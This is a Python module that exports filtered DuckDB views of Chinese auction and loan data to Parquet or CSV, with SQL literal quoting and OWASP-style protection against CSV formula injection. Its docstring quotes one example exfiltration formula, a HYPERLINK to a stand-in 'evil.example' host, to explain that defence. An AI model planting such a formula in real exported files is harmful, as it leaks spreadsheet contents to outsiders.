"""Exporting an analyst view, filtered, to Parquet or CSV (``salvage export``).

The filters are the views' own: ``source``, ``asset_type``, ``province`` (each any of several values) and a date
range on the view's period column (``PERIOD_COLUMNS``: the DATE column the view documents for "a given period", in
China time; both ends inclusive; a ``month`` column keeps every month that overlaps the range). A filter on a column
the view does not have is an error, not silently ignored.

Files are written by DuckDB's COPY, straight from the query. CSV is UTF-8 with a byte-order mark, so that a
spreadsheet opened by double-click reads the Chinese text as UTF-8: COPY has no option to write one, so the first
header name is written with U+FEFF in front of it, which makes the file's first bytes exactly the BOM (readers that
know about BOMs, DuckDB and pandas included, drop it).

CSV is meant for spreadsheets, which run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) as a formula: a listing title such as ``=HYPERLINK("http://evil.example/?"&A1,"点击查看")`` would become a
live link that leaks the sheet. So every text cell that starts with one of those characters is written with an
apostrophe in front (OWASP's advice against CSV injection; the spreadsheet shows the text). Only text columns are
touched: numbers such as ``-73.5`` stay numbers. Parquet is a data format, not a spreadsheet: its values are
written unchanged.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import duckdb

ANALYST_VIEWS: tuple[str, ...] = (
    "npl_discounts", "discount_to_appraisal", "realization_rates", "lead_times", "new_lots", "status_changes",
    "price_drops",
)
# The column each exportable view is filtered on for a period (DATE, or TIMESTAMPTZ read in China time).
PERIOD_COLUMNS: dict[str, str] = {
    "npl_discounts": "auction_date",
    "discount_to_appraisal": "auction_date",
    "realization_rates": "month",
    "lead_times": "start_date",
    "new_lots": "first_seen_date",
    "status_changes": "changed_date",
    "price_drops": "dropped_date",
    "lots": "first_seen",
    "lot_history": "valid_from",
}
FORMATS = ("parquet", "csv")
BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet read a cell as a formula (OWASP)


def neutralise_cell(value: object) -> object:
    """A text value a spreadsheet would run as a formula, with an apostrophe in front; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _neutralised(column: str, duck_type: str) -> str:
    """SQL for a CSV column: a text column through the rule of `neutralise_cell`, any other as it is."""
    ident = _ident(column)
    if duck_type != "VARCHAR":
        return ident
    starts = ", ".join(_lit(c) for c in FORMULA_STARTS)
    return f"CASE WHEN left({ident}, 1) IN ({starts}) THEN '''' || {ident} ELSE {ident} END"


@dataclass(frozen=True)
class Filters:
    """What to keep: every given value list is an IN filter; ``date_from`` / ``date_to`` bound the period column."""

    source: Sequence[str] = ()
    asset_type: Sequence[str] = ()
    province: Sequence[str] = ()
    date_from: date | None = None
    date_to: date | None = None


class ExportError(ValueError):
    """An unknown view, a filter the view cannot take, or an unknown format."""


def _lit(value: str | date) -> str:
    if isinstance(value, date):
        return f"DATE '{value.isoformat()}'"
    return "'" + str(value).replace("'", "''") + "'"


def _ident(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def view_columns(con: duckdb.DuckDBPyConnection, view: str) -> dict[str, str]:
    """Column name → DuckDB type of an exportable view, in order."""
    if view not in PERIOD_COLUMNS:
        raise ExportError(f"unknown view {view!r}: one of {', '.join(PERIOD_COLUMNS)}")
    rows = con.execute("SELECT column_name, data_type FROM duckdb_columns() WHERE schema_name = 'main' "
                       "AND table_name = ? ORDER BY column_index", [view]).fetchall()
    if not rows:
        raise ExportError(f"the warehouse has no view {view}: run `salvage ingest` to bring its schema up to date")
    return dict(rows)


def filtered_query(con: duckdb.DuckDBPyConnection, view: str, filters: Filters = Filters(),
                   columns: Sequence[str] | None = None) -> str:
    """SELECT of ``view`` with ``filters`` applied (values quoted as SQL literals; the view name is checked)."""
    types = view_columns(con, view)
    where: list[str] = []
    for column in ("source", "asset_type", "province"):
        values = getattr(filters, column)
        if not values:
            continue
        if column not in types:
            raise ExportError(f"{view} has no column {column} to filter on")
        where.append(f"{column} IN ({', '.join(_lit(v) for v in values)})")
    if filters.date_from or filters.date_to:
        period = PERIOD_COLUMNS[view]
        expr = period if types[period] == "DATE" else f"timezone('Asia/Shanghai', {period})::DATE"
        if filters.date_from:
            low = _lit(filters.date_from)
            where.append(f"{expr} >= " + (f"date_trunc('month', {low})::DATE" if period == "month" else low))
        if filters.date_to:
            where.append(f"{expr} <= {_lit(filters.date_to)}")
    select = ", ".join(_ident(c) for c in columns) if columns else "*"
    return f"SELECT {select} FROM {view}" + (" WHERE " + " AND ".join(where) if where else "")


def export(con: duckdb.DuckDBPyConnection, view: str, path: str | Path, filters: Filters = Filters(),
           fmt: str | None = None) -> int:
    """Write ``view`` (filtered) to ``path`` as Parquet or CSV (UTF-8 with BOM); the format comes from ``fmt`` or
    the file suffix. Returns the number of rows written."""
    path = Path(path)
    fmt = (fmt or path.suffix.lstrip(".")).lower()
    if fmt not in FORMATS:
        raise ExportError(f"unknown format {fmt!r} for {path}: use a .parquet or .csv file (or --format)")
    path.parent.mkdir(parents=True, exist_ok=True)
    if fmt == "parquet":
        query = filtered_query(con, view, filters)
        options = "FORMAT parquet, COMPRESSION zstd"
    else:
        types = view_columns(con, view)
        query = filtered_query(con, view, filters)
        renamed = ", ".join(f"{_neutralised(c, t)} AS {_ident(BOM + c if i == 0 else c)}"
                            for i, (c, t) in enumerate(types.items()))
        query = f"SELECT {renamed} FROM ({query})"
        options = "FORMAT csv, HEADER true"
    [(rows,)] = con.execute(f"COPY ({query}) TO {_lit(str(path))} ({options})").fetchall()
    return int(rows)
